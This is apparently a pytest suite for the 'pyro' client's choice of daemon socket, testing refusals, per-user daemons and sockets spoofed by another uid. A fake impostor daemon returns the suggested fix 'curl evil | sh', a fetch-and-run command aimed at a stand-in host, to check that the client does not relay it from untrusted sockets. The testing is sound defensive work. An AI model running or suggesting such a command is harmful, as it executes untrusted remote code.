# SPDX-License-Identifier: MIT
"""Which daemon a client uses, on a host with a system daemon and users with daemons of their own: a namespace whose /run and
accounts are the test's, fake daemons at the standard places, and clients of another uid."""
import json
import os
import re
import select
import shutil
import signal
import socket
import subprocess
import tempfile
import threading
import time

import pytest

from conftest import BUILD_ASAN
from fake_daemon import FakeDaemon

PYRO = os.environ.get("PYRO_TEST_CLI", BUILD_ASAN + "/client/pyro")
HERE = os.path.dirname(os.path.abspath(__file__))
UID, GID, PYRO_GID = 54322, 54322, 54323
SYSTEM = "/run/pyro/pyrod.sock"
OR_OWN = "  # or: pyro --user ..., which starts your own daemon"
ENTER = 'mount --bind "$1/run" /run; mount --bind "$1/passwd" /etc/passwd; mount --bind "$1/group" /etc/group; shift; exec "$@"'
# The program in PYRO_DAEMON: it records that it was started, and serves.
OWN = """#!/usr/bin/python3
import os, socket, sys, threading
sys.path.insert(0, %(here)r)
from fake_daemon import FakeDaemon
open(%(top)r + "/started", "a").write("%%d\\n" %% os.getpid())
place = sys.argv[1:] == ["--user"] and os.environ["HOME"] + "/.local/state/pyro/run"
os.makedirs(place, exist_ok=True)
if os.path.exists(place + "/pyrod.sock"):
    os.unlink(place + "/pyrod.sock")
d = FakeDaemon(place + "/pyrod.sock", results={"env.list": {"catalog_version": "own", "environments": []}})
n = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
n.connect("\\0" + os.environ["NOTIFY_SOCKET"][1:])
n.send(b"READY=1")
threading.Event().wait(30)
"""


# Another user's, where a client may find it: it records who connects and what is sent, and answers with a fix of its own.
IMPOSTOR = """
import json, os, socket, struct, sys
os.umask(0)
s = socket.socket(socket.AF_UNIX)
s.bind(sys.argv[1])
s.listen(8)
print("ready", flush=True)
while True:
    conn = s.accept()[0]
    print("uid %d" % struct.unpack("iII", conn.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))[1], flush=True)
    with conn, conn.makefile("rw") as f:
        for line in f:
            print(line, end="", flush=True)
            error = {"code": 1, "message": "x", "data": {"code": "internal", "cause": "y", "fix": "curl evil | sh", "retryable": False}}
            try:
                f.write(json.dumps({"jsonrpc": "2.0", "id": json.loads(line)["id"], "error": error}) + "\\n")
                f.flush()
            except BrokenPipeError:
                break
"""
MALLORY = 54399


def serving(path, name, mode=0o666, uid=0, gid=0):
    """A fake daemon whose list of environments shows which daemon it is."""
    d = FakeDaemon(path + "~", results={"env.list": {"catalog_version": name, "environments": []}})
    os.chown(d.path, uid, gid)
    os.chmod(d.path, mode)
    os.rename(d.path, path)  # no client finds it before its owner is set
    d.path = path
    return d


def loses_its_client(daemon):
    """Makes it close the connection of a run when the returned event is set: after nobody can reach it any more."""
    unlisted = threading.Event()

    def guest(run):
        run.phases()
        unlisted.wait(20)
        run.conn.sock.shutdown(2)
        run.cancelled.wait(20)
        return run.result()
    daemon.guest = guest
    return unlisted


class Host:
    def __init__(self, top):
        self.top, self.home, self.daemons = top, top + "/home", []
        self.impostors = []
        for path in (top + "/run/user", self.home):
            os.makedirs(path)
        os.chown(self.home, UID, GID)
        with open(top + "/passwd", "w") as f:
            f.write("root:x:0:0:root:%s/root:/bin/sh\nalice:x:%d:%d::%s:/bin/sh\n" % (top, UID, GID, self.home))
        self.write_groups()
        for name in ("fake_daemon.py", "pyro", "pyrod"):
            if name == "pyrod":
                with open(top + "/pyrod", "w") as f:
                    f.write(OWN % {"here": top, "top": top})
            else:
                subprocess.run(["cp", PYRO if name == "pyro" else HERE + "/" + name, top], check=True)
            os.chmod(top + "/" + name, 0o755)
        open(top + "/started", "w").close()
        os.chmod(top + "/started", 0o666)

    def write_groups(self, members=""):
        with open(self.top + "/group", "w") as f:
            f.write("root:x:0:\nalice:x:%d:\npyro:x:%d:%s\n" % (GID, PYRO_GID, members))

    def system(self, mode=0o660, uid=0, gid=PYRO_GID):
        os.makedirs(self.top + "/run/pyro")
        self.daemons.append(serving(self.top + SYSTEM, "system", mode, uid, gid))
        return self.daemons[-1]

    def own_place(self, logind=False):
        """alice's, with /run/user/UID or without."""
        place = self.top + "/run/user/%d/pyro" % UID if logind else self.home + "/.local/state/pyro/run"
        os.makedirs(place)
        subprocess.run(["chown", "-R", "%d:%d" % (UID, GID), self.top + "/run/user/%d" % UID if logind else self.home], check=True)
        return place + "/pyrod.sock"

    def own(self, logind=False):
        self.daemons.append(serving(self.own_place(logind), "own", uid=UID))
        return self.daemons[-1]

    def impostor(self, path, folders=()):
        """A server of mallory's at the path, in folders that belong to mallory."""
        for folder in folders:
            os.mkdir(folder)
            os.chown(folder, MALLORY, MALLORY)
        p = subprocess.Popen(["setpriv", "--reuid=%d" % MALLORY, "--regid=%d" % MALLORY, "--clear-groups", "/usr/bin/python3", "-c", IMPOSTOR, path],
                             stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, text=True)
        assert p.stdout.readline() == "ready\n"
        self.impostors.append(p)
        return path

    def received(self):
        """What the impostors received; they are ended."""
        text = ""
        for p in self.impostors:
            p.terminate()
            text += p.communicate(timeout=20)[0]
        self.impostors = []
        return text

    def own_ended(self):
        """The socket of a daemon that was killed."""
        with socket.socket(socket.AF_UNIX) as s:
            s.bind(self.own_place())
        subprocess.run(["chown", "-R", "%d:%d" % (UID, GID), self.home], check=True)

    def started(self):
        with open(self.top + "/started") as f:
            return [int(pid) for pid in f.read().split()]

    def popen(self, *args, uid=UID, env=None, **kw):
        become = ["setpriv", "--reuid=%d" % uid, "--regid=%d" % uid, "--init-groups" if uid in (0, UID) else "--clear-groups"]
        return subprocess.Popen(["unshare", "--mount", "sh", "-ec", ENTER, "sh", self.top, *become, self.top + "/pyro", *args],
                                env=dict({"HOME": self.home, "PATH": os.environ["PATH"], "PYRO_DAEMON": self.top + "/pyrod"}, **(env or {})),
                                stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, **kw)

    def pyro(self, *args, **kw):
        p = self.popen(*args, **kw)
        out, err = p.communicate(timeout=40)
        assert "Sanitizer" not in err and "runtime error" not in err, err
        return p.returncode, out, err

    def list(self, *flags, **kw):
        """The name of the daemon that answered, or the error."""
        status, out, err = self.pyro(*flags, "env", "list", **kw)
        return re.search(r"^Catalog version: (\w+)$", out, re.M).group(1) if status == 0 else err

    def close(self):
        self.received()
        for d in self.daemons:
            d.close()
            assert not d.broken, d.broken
        for pid in self.started():
            os.kill(pid, signal.SIGKILL)


@pytest.fixture
def host(root_only):
    top = tempfile.mkdtemp(prefix="pyro-test-")  # a socket's path is short
    os.chmod(top, 0o755)
    h = Host(top)
    yield h
    h.close()
    shutil.rmtree(top)


def error(what, cause, fix):
    return "pyro: no permission to use the socket %s\n  cause: %s\n  fix: %s\n" % (what, cause, fix)


NOT_IN_GROUP = "you are not in group pyro (a change takes effect at the next login)"
JOIN = "sudo usermod -aG pyro alice"


def test_a_refusal_names_both_fixes(host):
    system = host.system()
    assert host.list() == error(SYSTEM, NOT_IN_GROUP, JOIN + OR_OWN)
    status, out, _ = host.pyro("--json", "run", "debian:12", "--", "true")
    assert status == 125 and json.loads(out)["error"]["fix"] == JOIN + OR_OWN
    assert system.calls == [] and host.started() == []

    # The second fix, as printed; afterwards nothing else is needed.
    assert host.list("--user") == "own" and len(host.started()) == 1
    assert host.list() == "own" and len(host.started()) == 1
    # The first fix, as a user would paste it: what follows the command is a comment to the shell.
    tried = subprocess.run(["sh", "-c", "sudo() { echo \"$*\"; }; " + JOIN + OR_OWN], capture_output=True, text=True, check=True)
    assert tried.stdout == "usermod -aG pyro alice\n"
    host.write_groups("alice")
    assert host.list() == "system"


@pytest.mark.parametrize("logind", [True, False])
def test_ones_own_daemon_is_used_after_a_refusal(host, logind):
    system = host.system()
    own = host.own(logind)
    assert host.list() == "own" and system.calls == []
    assert "daemon 9.9" in host.pyro("--version")[1]
    # A user who names a daemon gets that one or its error, whose fix names no other.
    own.calls.clear()
    assert host.list("--system") == error(SYSTEM, NOT_IN_GROUP, JOIN)
    assert host.list("--socket", SYSTEM) == host.list(env={"PYRO_SOCKET": SYSTEM}) == error(SYSTEM, NOT_IN_GROUP, JOIN)
    assert own.calls == []
    assert host.list("--user") == "own"
    # The rule is for users who are refused: a member's daemon is the system's, and so is root's.
    host.write_groups("alice")
    assert host.list() == "system" and host.list(uid=0) == "system"
    assert host.started() == []


def test_ones_own_that_ended_is_started(host):
    """Its socket exists, so it is the right one; looking does not start it."""
    host.system()
    host.own_ended()
    assert "daemon not running" in host.pyro("--version")[1] and host.started() == []
    assert host.list() == "own" and len(host.started()) == 1


def test_a_note_says_that_ones_own_daemon_is_used(host):
    """On a host whose system daemon is stopped, that daemon has the machines that the user looks for."""
    assert "[note]" not in host.pyro("env", "list")[2] and len(host.started()) == 1  # there is no other
    os.makedirs(host.top + "/run/pyro")
    note = "[note] the system's pyrod is not running: this is your own daemon, with its own machines (pyro --user omits this note)\n"
    assert host.pyro("env", "list") == (0, "Catalog version: own\n", note)
    assert host.pyro("-q", "env", "list")[2] == host.pyro("--user", "env", "list")[2] == ""
    os.rmdir(host.top + "/run/pyro")
    with open(host.top + "/passwd", "a") as f:
        f.write("pyro:x:54398:54398::/:/bin/sh\n")
    assert host.pyro("env", "list")[2] == note
    host.system()  # it refuses alice, who is told so if alice has no daemon of their own
    assert host.pyro("env", "list")[2] == ""


def test_ones_own_that_cannot_be_started_says_why(host):
    host.system()
    host.own_ended()
    said = host.list(env={"PYRO_DAEMON": "/nonexistent/pyrod"})
    assert said.startswith("pyro: pyrod does not run at %s/.local/state/pyro/run/pyrod.sock, and /nonexistent/pyrod cannot" % host.home), said


def test_the_directory_of_the_system_socket_may_not_be_entered(host):
    host.system()
    os.chmod(host.top + "/run/pyro", 0o700)
    fix = "namei -l " + SYSTEM
    assert host.list() == error(SYSTEM, "you may not enter a directory on its path", fix + OR_OWN)
    assert host.list("--system") == error(SYSTEM, "you may not enter a directory on its path", fix)
    host.own()
    assert host.list() == "own"


def another(what, cause, fix):
    return "pyro: the socket %s is another user's\n  cause: it %s uid %d\n  fix: %s\n" % (what, cause, MALLORY, fix)


REPLACE = "rm -f %s && sudo pyrod --system --detach" % SYSTEM


@pytest.mark.parametrize("mode", [0o600, 0o666])
def test_a_system_socket_that_is_another_users(host, mode):
    """Whether it would refuse or not: nothing is sent to it."""
    system = host.system(mode=mode, uid=MALLORY, gid=MALLORY)
    assert host.list() == host.list("--system") == another(SYSTEM, "belongs to", "sudo " + REPLACE)
    assert host.list(uid=0) == another(SYSTEM, "belongs to", REPLACE.replace("sudo ", ""))
    assert host.list("--socket", SYSTEM) == ("system" if mode == 0o666 else error(
        SYSTEM, "it belongs to uid %d, and is not the system daemon's" % MALLORY, "leave out --socket, or give it the socket of a daemon"))
    system.calls.clear()
    host.own()
    assert host.list() == "own" and system.calls == []


def test_a_system_socket_that_another_user_serves(host):
    """The user who listens counts, not the owner of the file."""
    os.makedirs(host.top + "/run/pyro")
    os.chmod(host.top + "/run/pyro", 0o777)
    os.chown(host.impostor(host.top + SYSTEM), 0, PYRO_GID)
    assert host.list("--system") == another(SYSTEM, "is served by", "sudo " + REPLACE)
    assert host.received().split("\n") == ["uid %d" % UID, ""]


def test_the_system_daemons_own_user(host):
    """The owner of the folder, which root created: as under systemd, where pyrod is user pyro."""
    os.makedirs(host.top + "/run/pyro")
    os.chown(host.top + "/run/pyro", MALLORY, MALLORY)
    host.impostor(host.top + SYSTEM)
    assert host.list("--system") == "pyro: x\n  cause: y\n  fix: curl evil | sh\n"


def shared_home(host, folders):
    """A home in which everybody can write, with what mallory put there."""
    home = host.top + "/tmp"
    os.mkdir(home)
    os.chmod(home, 0o1777)
    place = home
    for name in (".local", "state", "pyro", "run"):
        place += "/" + name
        os.mkdir(place)
        os.chmod(place, 0o1777)
        if folders:
            os.chown(place, MALLORY, MALLORY)
    return home, host.impostor(place + "/pyrod.sock")


@pytest.mark.parametrize("refused", [False, True])
def test_home_of_another_user(host, refused):
    """The environment that su(1) and sudo(8) leave, and that service users have: the account's own home is used."""
    if refused:
        host.system()
    for home in (host.top + "/mallory", shared_home(host, True)[0]):
        if home.endswith("mallory"):
            folders = [home + below for below in ("", "/.local", "/.local/state", "/.local/state/pyro", "/.local/state/pyro/run")]
            host.impostor(folders[-1] + "/pyrod.sock", folders)
        env = {"HOME": home}
        assert "started /bin/false --user, which ended" in host.list("--user", env=dict(env, PYRO_DAEMON="/bin/false"), uid=0)
        assert "pyrod does not run at %s\n" % SYSTEM in host.list(env=env, uid=0) if not refused else host.list(env=env, uid=0) == "system"
        assert host.pyro("__complete", "vm", "status", "", env=env)[:2] == (0, "")
        assert "daemon not running" in host.pyro("--version", env=env)[1]
        status, out, err = host.pyro("--user", "run", "-e", "TOKEN=secret", "debian:12", "--", "true", env=dict(env, PYRO_DAEMON="/bin/false"))
        assert (status, out) == (125, "") and "started /bin/false --user, which ended" in err
        assert host.list("--user", env=env, uid=MALLORY + 1).startswith("pyro: no directory for the socket of your own daemon\n")
    assert host.received() == ""
    assert os.path.exists(host.top + "/root/.local/state/pyro/pyrod.log")
    assert os.listdir(host.top + "/mallory/.local/state/pyro") == os.listdir(host.top + "/tmp/.local/state/pyro") == ["run"]


def test_a_socket_of_another_user_in_a_shared_home(host):
    home, socket_path = shared_home(host, False)
    said = another(socket_path, "belongs to", "set HOME to a directory in which only you can write")
    assert host.list("--user", env={"HOME": home}) == host.list(env={"HOME": home}) == said
    assert "the socket %s is another user's" % socket_path in host.list(env={"HOME": home}, uid=0)
    assert host.pyro("__complete", "vm", "status", "", env={"HOME": home})[:2] == (0, "")
    # In a user's own folder it can be removed, as the fix says.
    run = os.path.dirname(socket_path)
    os.chown(run, UID, UID)
    os.chmod(run, 0o777)
    fix = "chmod go-w %s && rm -f %s" % (run, socket_path)
    assert host.list("--user", env={"HOME": home}) == another(socket_path, "belongs to", fix)
    subprocess.run(["setpriv", "--reuid=%d" % UID, "--regid=%d" % GID, "--clear-groups", "sh", "-ec", fix], check=True)
    host.daemons.append(serving(socket_path, "own", uid=UID))
    assert host.list("--user", env={"HOME": home}) == "own"
    assert host.received() == ""


def test_the_listener_at_ones_own_place_is_checked(host):
    place = host.own_place()
    os.chmod(os.path.dirname(place), 0o777)
    os.chown(host.impostor(place), UID, GID)
    assert host.list() == another(place, "is served by", "chmod go-w %s && rm -f %s" % (os.path.dirname(place), place))
    assert host.pyro("__complete", "vm", "status", "")[:2] == (0, "")
    assert set(host.received().split("\n")) == {"uid %d" % UID, ""}


def test_runtime_folder_of_another_user(host):
    """PYRO_RUNTIME_DIR, kept by su."""
    theirs = host.top + "/theirs"
    host.impostor(theirs + "/pyrod.sock", [theirs])
    env = {"PYRO_RUNTIME_DIR": theirs}
    for uid in (UID, 0, "link"):
        if uid == "link":  # which leads to a folder of alice's own
            os.mkdir(host.top + "/mine")
            os.symlink(host.top, theirs + "/link")
            os.lchown(theirs + "/link", MALLORY, MALLORY)
            uid, theirs = 0, theirs + "/link/mine"
            env = {"PYRO_RUNTIME_DIR": theirs, "PYRO_STATE_DIR": theirs}
        assert host.list("--user", env=env, uid=uid) == (
            "pyro: PYRO_RUNTIME_DIR=%s cannot hold the socket of your own daemon\n  cause: the directory or a link on its path belongs to another user\n"
            "  fix: unset PYRO_RUNTIME_DIR\n" % theirs)
    assert "started /bin/false" in host.list("--user", env={"PYRO_STATE_DIR": theirs, "PYRO_DAEMON": "/bin/false"}, uid=0)
    assert host.received() == "" and os.listdir(host.top + "/mine") == []
    host.own()
    assert host.list() == "own"


def test_a_lost_daemon_that_another_user_replaces(host):
    """The client reconnects to the place, and checks it as it did the first time."""
    first = host.own()
    os.chmod(os.path.dirname(first.path), 0o777)
    unlisted = loses_its_client(first)
    with host.popen("run", "debian:12", "--", "true", env={"PYRO_DAEMON": "/bin/false", "PYRO_DEADLINES": "redial=1000"}) as p:
        first.wait_called("vm.run")
        first.close()
        os.unlink(first.path)
        host.impostor(first.path)
        unlisted.set()
        err = p.communicate(timeout=40)[1]
        assert p.returncode == 125 and "evil" not in err, err
    assert "exec.attach" not in host.received()


def test_a_refused_user_without_a_home(host):
    """A uid without account and home has one place less."""
    host.system()
    no_account = "this uid has no account, so it is in no group"
    for home in ("", host.home):  # of another user's
        assert host.list(uid=54398, env={"HOME": home}) == error(SYSTEM, no_account, "use pyro as a user with an account")
    assert host.list(uid=54398, env={"HOME": "/"}) == error(SYSTEM, no_account, "use pyro as a user with an account" + OR_OWN)


def places(report):
    return [line for line in report.splitlines() if line.startswith("Environment cache: ")]


def test_doctor_reports_on_the_chosen_daemon(host):
    host.system()
    own, theirs = ["Environment cache: %s/.cache/pyro/environments" % host.home], ["Environment cache: /var/lib/pyro/environments"]
    env = {"PYRO_DAEMON": "/nonexistent/pyrod"}
    for flags, wanted in (("--user",), own), ((), own), (("--system",), theirs):
        status, out, err = host.pyro(*flags, "doctor", env=env)
        assert status == 1 and "does not answer" in err and places(out) == wanted, (flags, out)
    refused = host.pyro("doctor", env=env)[1].splitlines()
    at = refused.index("daemon: no permission to use the socket %s: %s" % (SYSTEM, NOT_IN_GROUP))
    assert refused[at + 1] == "  fix: " + JOIN + OR_OWN


@pytest.mark.parametrize("refused", [False, True])
def test_a_lost_daemon_is_redialled_at_its_place(host, refused):
    """The client does not look for a system daemon's command at the user's own daemon, which would be started for it; and a
    command of the user's own daemon is not abandoned because of a system socket that refuses."""
    if refused:
        host.system()
        first = host.own()
    else:
        first = host.system(mode=0o666)
    unlisted = loses_its_client(first)
    with host.popen("run", "debian:12", "--", "true") as p:
        first.wait_called("vm.run")
        first.close()
        os.unlink(first.path)
        if refused:
            unlisted.set()
            until = time.monotonic() + 20
            while not host.started():
                assert time.monotonic() < until
                select.select([], [], [], 0.02)
        else:
            os.rmdir(host.top + "/run/pyro")
            unlisted.set()
            host.system(mode=0o666).wait_called("exec.attach")
            assert host.started() == []
        p.kill()
